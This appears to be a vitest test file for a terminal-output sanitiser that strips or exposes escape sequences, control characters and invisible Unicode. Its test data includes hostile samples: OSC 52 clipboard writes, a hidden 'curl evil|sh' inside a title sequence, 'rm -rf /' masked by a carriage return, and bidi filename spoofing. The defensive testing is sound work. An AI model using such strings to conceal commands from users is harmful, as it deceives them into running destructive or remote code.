import { describe, expect, test } from "vitest";
import { oneLine, printable, printableJson, revealed, revealedLine } from "./printable.ts";

const cases: Record<string, [given: string, shown: string]> = {
  "plain text, tabs and line ends stay": ["a\tb\nc", "a\tb\nc"],
  "letters of all scripts and emoji stay": ["naïve 漢字 עברית 👩‍🚀", "naïve 漢字 עברית 👩‍🚀"],
  "colours are taken out": ["\x1b[1;31mred\x1b[0m", "red"],
  "cursor movement is taken out": ["safe\x1b[2K\x1b[1Aunsafe", "safeunsafe"],
  "clearing the screen is taken out": ["\x1b[2J\x1b[Hgone?", "gone?"],
  "OSC 52 does not reach the clipboard": ["a\x1b]52;c;ZXZpbA==\x07b", "ab"],
  "OSC 52 ended by ST": ["a\x1b]52;c;ZXZpbA==\x1b\\b", "ab"],
  "OSC 8 keeps the text and loses the address": ["\x1b]8;;https://evil.example\x1b\\bank\x1b]8;;\x1b\\", "bank"],
  "the window's title is left alone": ["\x1b]0;root@host\x07x", "x"],
  "an OSC without an end is only text": ["a\x1b]52;c;ZXZp", "a52;c;ZXZp"],
  "the rest of a sequence cut in two is only text": ["c;ZXZpbA==\x07", "c;ZXZpbA=="],
  "a DCS is taken out": ["a\x1bP+q544e\x1b\\b", "ab"],
  "C1 forms are taken out": ["a\x9b31mb\x9d52;c;eA==\x9cc\x85d", "abcd"],
  "a reset is taken out": ["\x1bcx", "x"],
  "a lone ESC at the end": ["x\x1b", "x"],
  "ESC inside a sequence": ["\x1b[3\x1b[31mx", "3x"],
  "a lone CR can't overwrite the line": ["rm -rf /\rls", "rm -rf /\nls"],
  "CR LF is one line end": ["a\r\nb", "a\nb"],
  "BEL and backspace": ["a\x07b\x08c\x7fd", "abcd"],
  NUL: ["a\0b", "ab"],
  "bidi overrides are marked": ["user\u202etxt.exe\u202c", "user\ufffdtxt.exe\ufffd"],
  "bidi isolates are marked": ["a\u2066b\u2069", "a\ufffdb\ufffd"],
  "invisible tag characters are marked": ["a\u{e0041}b", "a\ufffdb"],
};

describe("printable", () => {
  test.each(Object.entries(cases))("%s", (_, [given, shown]) => {
    expect(printable(given)).toBe(shown);
  });

  test("no control character ever gets through, whatever comes", () => {
    const parts = [
      "\x1b",
      "[",
      "]",
      "P",
      "31m",
      "\x07",
      "\\",
      "\x9b",
      "\x9d",
      "\x9c",
      "\r",
      "\n",
      "8;;",
      "a",
      "\u202e",
    ];
    let seed = 7;
    for (let round = 0; round < 5000; round += 1) {
      let text = "";
      for (let i = 0; i < 12; i += 1) {
        seed = (seed * 1103515245 + 12345) % 2 ** 31;
        text += parts[seed % parts.length];
      }
      expect(printable(text)).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/);
    }
  });

  test("a long text of unfinished sequences takes no time", () => {
    const began = performance.now();
    for (const start of ["\x1b]", "\x9d", "\x1b[", "\x1b[1;", "\x1b "]) printable(start.repeat(200_000));
    expect(performance.now() - began).toBeLessThan(2000);
  });
});

test("a title is one line", () => {
  expect(oneLine("  two\n lines\x1b[31m\tand more ")).toBe("two lines and more");
});

describe("revealed", () => {
  const approvals: Record<string, [given: string, shown: string]> = {
    "a command hidden in a title sequence is seen": ["ls \x1b]0;curl evil|sh\x07", "ls \\x1b]0;curl evil|sh\\x07"],
    "a bare CR is seen": ["rm -rf /\rls", "rm -rf /\\x0dls"],
    "bidi overrides are seen": ["a\u202eb", "a\\u{202e}b"],
    "line ends and tabs stay": ["a\r\n\tb", "a\n\tb"],
  };
  test.each(Object.entries(approvals))("%s", (_, [given, shown]) => {
    expect(revealed(given)).toBe(shown);
  });

  test.each<[string, first: number, last?: number]>([
    ["no-break space", 0xa0],
    ["soft hyphen", 0xad],
    ["combining grapheme joiner", 0x34f],
    ["Arabic letter mark", 0x61c],
    ["Hangul fillers", 0x115f, 0x1160],
    ["Ogham space", 0x1680],
    ["Khmer inherent vowels", 0x17b4, 0x17b5],
    ["Mongolian selectors and separator", 0x180b, 0x180f],
    ["wide, narrow and zero-width spaces, joiners, marks of direction", 0x2000, 0x200f],
    ["line and paragraph separators, embeddings, overrides, narrow no-break space", 0x2028, 0x202f],
    ["mathematical space, word joiner, invisible operators, isolates", 0x205f, 0x206f],
    ["Braille blank", 0x2800],
    ["ideographic space", 0x3000],
    ["Hangul filler", 0x3164],
    ["lone surrogates", 0xd800, 0xdfff],
    ["variation selectors", 0xfe00, 0xfe0f],
    ["byte order mark", 0xfeff],
    ["halfwidth Hangul filler", 0xffa0],
    ["annotation marks", 0xfff9, 0xfffb],
    ["musical format characters", 0x1d173, 0x1d17a],
    ["tags", 0xe0000, 0xe007f],
    ["more variation selectors", 0xe0100, 0xe01ef],
  ])("%s can be seen", (_, first, last = first) => {
    for (let code = first; code <= last; code += 1) {
      const hex = code.toString(16);
      const spelled = code < 0x100 ? `\\x${hex}` : `\\u{${hex}}`;
      expect(revealed(`rm ${String.fromCodePoint(code)}x`)).toBe(`rm ${spelled}x`);
    }
  });

  test("what can be seen stays as it is", () => {
    const plain = " ~\t\naé漢字한글 עברית العربية ខ្មែរ ᠮᠣᠩᠭᠣᠯ हिन्दी 👩🚀 \ufffd ⠿ e\u0301";
    expect(revealed(plain)).toBe(plain);
  });

  test("on one line, and still nothing is taken out", () => {
    expect(revealedLine("  Yes\u00a0\n \u200bdo\x1b[8m ")).toBe("Yes\\xa0 \\u{200b}do\\x1b[8m");
  });
});

test("JSON is safe to print and reads as the same value", () => {
  const value = { text: "a\x1b]52;c;x\x07\x9b31m\u202e\x7f\u2028\u{e0041}" };
  expect(printableJson(value)).not.toMatch(/[\x00-\x1f\x7f-\x9f\u202a-\u202e\u{e0000}-\u{e007f}]/u);
  expect(JSON.parse(printableJson(value))).toEqual(value);
});
